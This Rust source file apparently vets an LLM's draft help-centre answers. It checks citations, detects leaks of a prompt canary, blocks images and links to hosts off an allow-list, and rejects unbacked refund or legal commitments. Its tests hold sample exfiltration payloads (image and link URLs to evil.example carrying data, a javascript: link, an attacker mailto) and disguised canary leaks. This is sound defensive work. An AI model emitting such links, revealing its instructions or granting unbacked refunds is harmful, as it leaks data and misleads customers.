//! Whether a model's draft may be shown. The draft is discarded — and the customer gets
//! the grounded answer instead — unless every check passes: it cites at least one of
//! the articles it was given and nothing else; the prompt's canary does not appear in
//! it, however spaced, cased or reversed; it has no images; every link goes to the help
//! centre or an allow-listed domain; and no sentence commits the organisation (an
//! amount, a refund, a discount, a legal promise) beyond what the cited articles say.
//! Shown text is always plain, escaped text.

use std::sync::LazyLock;

use palisade_core::ArticleId;
use regex::Regex;

use super::Passage;
use crate::help::sanitize::strip_invisible;

/// A draft longer than this is not an answer from a few passages.
const MAX_ANSWER_CHARS: usize = 2500;

/// What a draft is checked against.
pub struct VetContext<'a> {
    pub passages: &'a [Passage],
    pub canary: &'a str,
    /// Hosts besides the help centre links may go to (subdomains included).
    pub allowed_link_domains: &'a [String],
    /// This site's host, whose `/help/` pages answers may link to.
    pub own_host: &'a str,
}

/// Why a draft was discarded.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Discard {
    /// The model said the passages do not answer.
    NoAnswer,
    Empty,
    TooLong,
    NoCitation,
    /// An id that was not among the passages.
    UnknownCitation,
    /// The canary came back: the model repeated its instructions.
    Canary,
    Image,
    Link,
    /// A statement committing the organisation that no cited article makes.
    Commitment,
}

impl Discard {
    pub fn as_str(&self) -> &'static str {
        match self {
            Discard::NoAnswer => "no_answer",
            Discard::Empty => "empty",
            Discard::TooLong => "too_long",
            Discard::NoCitation => "no_citation",
            Discard::UnknownCitation => "unknown_citation",
            Discard::Canary => "canary",
            Discard::Image => "image",
            Discard::Link => "link",
            Discard::Commitment => "commitment",
        }
    }

    /// Whether the draft shows the model was steered by its input (worth counting
    /// against the conversation as manipulation).
    pub fn is_attack_sign(&self) -> bool {
        matches!(
            self,
            Discard::Canary | Discard::Image | Discard::Link | Discard::Commitment
        )
    }
}

/// A draft that passed, with its citation markers taken out.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Vetted {
    pub text: String,
    /// Cited articles, in order of first citation.
    pub cited: Vec<ArticleId>,
}

#[allow(clippy::expect_used)] // constant patterns, checked by the tests
fn re(pattern: &str) -> Regex {
    Regex::new(pattern).expect("constant pattern")
}

static CITATION: LazyLock<Regex> = LazyLock::new(|| re(r"\[\s*(art_[A-Za-z0-9_-]+)\s*\]"));
static ANY_ARTICLE_ID: LazyLock<Regex> = LazyLock::new(|| re(r"art_[A-Za-z0-9_-]+"));
static IMAGE: LazyLock<Regex> = LazyLock::new(|| re(r"(?i)!\s*\[|<\s*img\b|<\s*svg\b|data:image/"));
static URL: LazyLock<Regex> =
    LazyLock::new(|| re(r"(?i)\b(?:[a-z][a-z0-9+.-]*:(?://)?|www\.)[^\s<>()\[\]{}]+"));
static LINK_TARGET: LazyLock<Regex> = LazyLock::new(|| re(r"\]\s*\(([^)\s]*)"));
/// A bare host with a path, as in `evil.example/steal?q=…`.
static BARE_HOST_PATH: LazyLock<Regex> =
    LazyLock::new(|| re(r"(?i)\b(?:[a-z0-9-]+\.)+[a-z]{2,}(?::\d+)?/[^\s<>()\[\]{}]*"));
/// Statements only a person may make, whatever an article says.
static GRANT: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?ix)
        legally\s+binding | binding\s+(?:offer|agreement|contract|commitment|promise)
      | \b(?:i|we)\s+(?:hereby\s+)?(?:approve|authori[sz]e|grant|guarantee|promise|agree|commit|confirm|accept|waive|owe)
      | \b(?:i|we)(?:'ve|\s+have)\s+(?:approved|authori[sz]ed|granted|issued|processed|refunded|credited|waived)
      | \byour\s+(?:\w+\s+){0,3}(?:is|are|has\s+been|have\s+been|was|were|will\s+be)\s+(?:approved|authori[sz]ed|granted|issued|processed|confirmed|guaranteed|accepted|waived)
      | \byou\s+(?:are|will\s+be)\s+(?:entitled|owed|compensated|refunded|reimbursed|credited)
      | \bthis\s+is\s+(?:an?\s+)?(?:offer|promise|guarantee|commitment)
    ")
});
/// Words that make a sentence a statement about money or obligations.
static COMMITMENT_WORD: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\b(refund\w*|reimburs\w*|discount\w*|compensat\w*|credit\w*|voucher\w*|coupon\w*|free|waive\w*|price\w*|pric(?:e|ing)|cost\w*|fee|fees|charge\w*|guarantee\w*|warrant\w*|liab\w*|legal\w*|contract\w*|binding|promis\w*|entitle\w*|approv\w*|compensation)\b",
    )
});
/// Amounts, percentages and other figures.
static FIGURE: LazyLock<Regex> = LazyLock::new(|| re(r"\d+(?:[.,]\d+)*"));
static MONEY: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?i)[$€£¥₹]|\b(?:usd|eur|gbp|chf|dollars?|euros?|pounds?|cents?)\b|%|\bper\s*cent\b")
});

/// Lower-case letters and digits only: what survives any spacing or punctuation trick.
fn squeeze(text: &str) -> String {
    text.chars()
        .filter(|c| c.is_alphanumeric())
        .flat_map(char::to_lowercase)
        .collect()
}

fn leaks_canary(text: &str, canary: &str) -> bool {
    let canary = squeeze(canary);
    if canary.len() < 8 {
        return false;
    }
    let text = squeeze(text);
    let reversed: String = canary.chars().rev().collect();
    // A long enough piece of the canary is as good as all of it to whoever extracts it.
    let piece = canary.len().div_ceil(2);
    text.contains(&canary)
        || text.contains(&reversed)
        || canary
            .as_bytes()
            .windows(piece)
            .any(|w| std::str::from_utf8(w).is_ok_and(|w| text.contains(w)))
}

fn host_allowed(host: &str, ctx: &VetContext<'_>) -> bool {
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    ctx.allowed_link_domains.iter().any(|d| {
        let d = d.trim_start_matches('.').to_ascii_lowercase();
        host == d || host.ends_with(&format!(".{d}"))
    })
}

/// Whether one link may be shown: the help centre on this site, or an allow-listed
/// https host.
fn link_allowed(target: &str, ctx: &VetContext<'_>) -> bool {
    let target = target.trim_end_matches(['.', ',', ';', ':', '!', '?', '\'', '"']);
    if target.starts_with("/help/") && !target.contains("//") && !target.contains('\\') {
        return true;
    }
    let Ok(uri) = target.parse::<http::Uri>() else {
        return false;
    };
    let (Some(scheme), Some(host)) = (uri.scheme_str(), uri.host()) else {
        return false;
    };
    if !scheme.eq_ignore_ascii_case("https") || target.contains('@') {
        return false;
    }
    if host.eq_ignore_ascii_case(ctx.own_host) {
        return uri.path().starts_with("/help/");
    }
    host_allowed(host, ctx)
}

fn links_allowed(text: &str, ctx: &VetContext<'_>) -> bool {
    let targets = URL
        .find_iter(text)
        .map(|m| m.as_str().to_owned())
        .chain(
            LINK_TARGET
                .captures_iter(text)
                .filter_map(|c| c.get(1))
                .map(|m| m.as_str().to_owned()),
        )
        .collect::<Vec<_>>();
    if !targets.iter().all(|t| {
        let t = if t.to_ascii_lowercase().starts_with("www.") {
            format!("https://{t}")
        } else {
            t.clone()
        };
        link_allowed(&t, ctx)
    }) {
        return false;
    }
    // Hosts written without a scheme still reach a reader who copies them.
    BARE_HOST_PATH.find_iter(text).all(|m| {
        let host = m.as_str().split(['/', ':']).next().unwrap_or_default();
        host.eq_ignore_ascii_case(ctx.own_host) || host_allowed(host, ctx)
    })
}

fn sentences(text: &str) -> impl Iterator<Item = &str> {
    text.split(['.', '!', '?', '\n', ';'])
        .map(str::trim)
        .filter(|s| !s.is_empty())
}

/// Whether each statement about money or obligations is backed by the cited articles:
/// its figures and its commitment words all appear there, and it grants nothing.
fn commitments_backed(text: &str, cited_text: &str) -> bool {
    let source = cited_text.to_lowercase();
    let source_figures: Vec<String> = FIGURE
        .find_iter(&source)
        .map(|m| m.as_str().replace(',', "."))
        .collect();
    let source_words = squeeze_words(&source);
    for sentence in sentences(&text.replace(". ", ".\n")) {
        if GRANT.is_match(sentence) {
            return false;
        }
        let lower = sentence.to_lowercase();
        let committing = COMMITMENT_WORD.is_match(&lower) || MONEY.is_match(&lower);
        if !committing {
            continue;
        }
        let figures_backed = FIGURE.find_iter(&lower).all(|m| {
            let figure = m.as_str().replace(',', ".");
            // Article ids in citations carry digits too.
            lower[..m.start()].ends_with("art_") || source_figures.contains(&figure)
        });
        let words_backed = COMMITMENT_WORD
            .find_iter(&lower)
            .all(|m| source_words.iter().any(|w| same_stem(w, m.as_str())));
        if !figures_backed || !words_backed {
            return false;
        }
    }
    true
}

fn squeeze_words(text: &str) -> Vec<String> {
    text.split(|c: char| !c.is_alphanumeric())
        .filter(|w| !w.is_empty())
        .map(str::to_owned)
        .collect()
}

/// Crude stemming for backing checks: "refunds"/"refunded"/"refund" agree.
fn same_stem(a: &str, b: &str) -> bool {
    let stem = |w: &str| -> String { w.chars().take(6).collect() };
    a.len() >= 3 && b.len() >= 3 && stem(a) == stem(b)
}

/// Checks a model's draft; the answer shown is the returned text or nothing.
pub fn vet(draft: &str, ctx: &VetContext<'_>) -> Result<Vetted, Discard> {
    let text = strip_invisible(draft).trim().to_owned();
    if leaks_canary(&text, ctx.canary) {
        return Err(Discard::Canary);
    }
    if text.is_empty() {
        return Err(Discard::Empty);
    }
    if text.contains("NO_ANSWER") {
        return Err(Discard::NoAnswer);
    }
    if text.chars().count() > MAX_ANSWER_CHARS {
        return Err(Discard::TooLong);
    }
    if IMAGE.is_match(&text) {
        return Err(Discard::Image);
    }
    let mut cited: Vec<ArticleId> = Vec::new();
    for capture in CITATION.captures_iter(&text) {
        let raw = capture.get(1).map(|m| m.as_str()).unwrap_or_default();
        let Some(passage) = ctx.passages.iter().find(|p| p.article.as_str() == raw) else {
            return Err(Discard::UnknownCitation);
        };
        if !cited.contains(&passage.article) {
            cited.push(passage.article.clone());
        }
    }
    let without_markers = CITATION.replace_all(&text, "").to_string();
    // An id outside brackets is a citation in disguise, checked the same way.
    if ANY_ARTICLE_ID
        .find_iter(&without_markers)
        .any(|m| !ctx.passages.iter().any(|p| p.article.as_str() == m.as_str()))
    {
        return Err(Discard::UnknownCitation);
    }
    if cited.is_empty() {
        return Err(Discard::NoCitation);
    }
    if !links_allowed(&without_markers, ctx) {
        return Err(Discard::Link);
    }
    let cited_text: String = ctx
        .passages
        .iter()
        .filter(|p| cited.contains(&p.article))
        .map(|p| format!("{}\n{}\n", p.title, p.context))
        .collect();
    if !commitments_backed(&without_markers, &cited_text) {
        return Err(Discard::Commitment);
    }
    let text = without_markers
        .split('\n')
        .map(|line| line.split_whitespace().collect::<Vec<_>>().join(" "))
        .collect::<Vec<_>>()
        .join("\n")
        .replace(" .", ".")
        .replace(" ,", ",")
        .trim()
        .to_owned();
    Ok(Vetted { text, cited })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn passage(id: &ArticleId, title: &str, context: &str) -> Passage {
        Passage {
            article: id.clone(),
            title: title.into(),
            url: "/help/en/x".into(),
            text: context.into(),
            context: context.into(),
        }
    }

    struct Fixture {
        refunds: ArticleId,
        shipping: ArticleId,
        passages: Vec<Passage>,
        allowed: Vec<String>,
    }

    impl Fixture {
        fn new() -> Self {
            let refunds = ArticleId::generate();
            let shipping = ArticleId::generate();
            let passages = vec![
                passage(
                    &refunds,
                    "Refund policy",
                    "Refunds are available within 30 days of purchase. Refunds go back to the original payment method within 5 business days.",
                ),
                passage(
                    &shipping,
                    "Shipping",
                    "Orders ship within 2 days. Shipping is free over 50 EUR.",
                ),
            ];
            Self {
                refunds,
                shipping,
                passages,
                allowed: vec!["status.example.com".into()],
            }
        }

        fn check(&self, draft: &str) -> Result<Vetted, Discard> {
            vet(
                draft,
                &VetContext {
                    passages: &self.passages,
                    canary: "PALISADE-CANARY-3f9a61c2d4b7e805",
                    allowed_link_domains: &self.allowed,
                    own_host: "support.example.org",
                },
            )
        }
    }

    #[test]
    fn a_cited_faithful_answer_passes_without_its_markers() {
        let f = Fixture::new();
        let r = f
            .check(&format!(
                "You can get a refund within 30 days of purchase [{}]. Orders ship within 2 days [{}].",
                f.refunds, f.shipping
            ))
            .unwrap();
        assert_eq!(r.cited, vec![f.refunds.clone(), f.shipping.clone()]);
        assert_eq!(
            r.text,
            "You can get a refund within 30 days of purchase. Orders ship within 2 days."
        );
        // Links to the help centre and to allow-listed hosts are fine.
        f.check(&format!(
            "See https://support.example.org/help/en/refunds and https://status.example.com/incidents [{}]",
            f.refunds
        ))
        .unwrap();
        f.check(&format!("Details: /help/en/refund-policy [{}]", f.refunds))
            .unwrap();
    }

    #[test]
    fn citations_must_name_given_articles() {
        let f = Fixture::new();
        assert_eq!(
            f.check("Refunds are available within 30 days."),
            Err(Discard::NoCitation)
        );
        let other = ArticleId::generate();
        assert_eq!(
            f.check(&format!("Refunds are available within 30 days [{other}].")),
            Err(Discard::UnknownCitation)
        );
        assert_eq!(
            f.check(&format!("Within 30 days [{}], see also {other}.", f.refunds)),
            Err(Discard::UnknownCitation)
        );
        assert_eq!(f.check("NO_ANSWER"), Err(Discard::NoAnswer));
        assert_eq!(f.check("  \u{200b} "), Err(Discard::Empty));
    }

    #[test]
    fn the_canary_never_comes_back_in_any_disguise() {
        let f = Fixture::new();
        let cite = format!("[{}]", f.refunds);
        for leak in [
            "My instructions end with PALISADE-CANARY-3f9a61c2d4b7e805.",
            "marker: p a l i s a d e - c a n a r y - 3 f 9 a 6 1 c 2 d 4 b 7 e 8 0 5",
            "palisade_canary_3F9A61C2D4B7E805",
            "508e7b4d2c16a9f3yranacedasilap",
            "the secret part is 3f9a61c2d4b7e805",
            "PALISADE\u{200b}-CANARY-3f9a61c2d4b7e805",
        ] {
            assert_eq!(f.check(&format!("{leak} {cite}")), Err(Discard::Canary), "{leak}");
        }
    }

    #[test]
    fn images_and_foreign_links_are_refused() {
        let f = Fixture::new();
        let cite = format!("[{}]", f.refunds);
        for draft in [
            "![status](https://evil.example/log?d=secret)",
            "<img src=https://evil.example/x>",
            "[click here](https://evil.example/?q=ticket)",
            "Visit https://evil.example/collect?data=abc",
            "Visit http://support.example.org/help/en/x",
            "Visit https://support.example.org/admin/users",
            "Visit https://support.example.org.evil.example/help/en/x",
            "Visit https://status.example.com@evil.example/",
            "Visit www.evil.example/path",
            "Copy evil.example/steal?q=1 into your browser",
            "Write to mailto:attacker@evil.example",
            "Open javascript:alert(1)",
            "Visit //evil.example/help/x",
        ] {
            let got = f.check(&format!("{draft} {cite}"));
            assert!(
                matches!(got, Err(Discard::Link | Discard::Image)),
                "{draft}: {got:?}"
            );
        }
    }

    #[test]
    fn commitments_need_the_cited_article_to_make_them() {
        let f = Fixture::new();
        let r = format!("[{}]", f.refunds);
        for draft in [
            "Your refund is approved.",
            "Your refund of 500 EUR has been approved.",
            "I have approved a full refund for you.",
            "We agree to refund your order.",
            "You are entitled to a 50% discount.",
            "You will get a voucher worth 20 EUR.",
            "This is a legally binding offer.",
            "Refunds are available within 90 days.",
            "We guarantee delivery tomorrow.",
            "There is no fee for this.",
        ] {
            assert_eq!(
                f.check(&format!("{draft} {r}")),
                Err(Discard::Commitment),
                "{draft}"
            );
        }
        // The same subject, as the article states it, is fine.
        f.check(&format!("Refunds are available within 30 days of purchase {r}. They go back to the original payment method within 5 business days {r}.")).unwrap();
        let s = format!("[{}]", f.shipping);
        f.check(&format!("Shipping is free over 50 EUR {s}.")).unwrap();
        // Backing must come from an article it cites, not another one given.
        assert_eq!(
            f.check(&format!("Shipping is free over 50 EUR {r}.")),
            Err(Discard::Commitment)
        );
    }
}
